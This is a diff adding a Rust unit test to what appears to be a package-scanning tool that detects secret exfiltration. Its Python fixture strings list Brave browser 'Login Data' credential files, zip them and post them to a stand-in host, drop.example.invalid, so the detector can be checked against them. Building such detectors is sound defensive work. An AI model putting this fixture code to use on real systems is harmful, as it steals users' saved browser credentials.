@@ -1888,6 +1888,40 @@ mod tests {
     }
 
     #[test]
+    fn a_credential_folder_listed_by_one_module_and_archived_out_by_another() {
+        let exfil = |files: &[(&str, &str)]| {
+            let a = analyze_package(&package("demo", files));
+            a.behaviours
+                .iter()
+                .filter(|b| b.kind == BehaviourKind::SecretExfiltration)
+                .map(|b| b.path.clone())
+                .collect::<Vec<_>>()
+        };
+        // One module lists a browser profile's files; another zips what it is handed
+        // into memory and posts the archive; the package's entry joins them.
+        let init = "from . import finder, shipper\nshipper.push(finder.keys())\n";
+        let finder = "import glob, os\ndef keys():\n    found = []\n    for d in glob.glob(os.path.expanduser('~/.config/BraveSoftware/Brave-Browser/*')):\n        found.append(os.path.join(d, 'Login Data'))\n    return found\n";
+        let shipper = "import io, zipfile, requests\ndef push(paths):\n    mem = io.BytesIO()\n    with zipfile.ZipFile(mem, 'w') as z:\n        for p in paths:\n            z.write(p)\n    requests.post('https://drop.example.invalid/z', data=mem.getvalue())\n";
+        let found = exfil(&[
+            ("demo/__init__.py", init),
+            ("demo/finder.py", finder),
+            ("demo/shipper.py", shipper),
+        ]);
+        assert!(
+            found.iter().any(|p| p.ends_with("demo/__init__.py")),
+            "{found:?}"
+        );
+        // The twin: the listed folder is the package's own templates.
+        let templates = "import glob, os\ndef keys():\n    return glob.glob(os.path.join(os.path.dirname(__file__), 'templates', '*'))\n";
+        let found = exfil(&[
+            ("demo/__init__.py", init),
+            ("demo/finder.py", templates),
+            ("demo/shipper.py", shipper),
+        ]);
+        assert!(found.is_empty(), "{found:?}");
+    }
+
+    #[test]
     fn what_one_function_gathers_handed_to_another_that_sends_it_is_exfiltration() {
         let exfil = |files: &[(&str, &str)]| {
             let mut all = vec![(
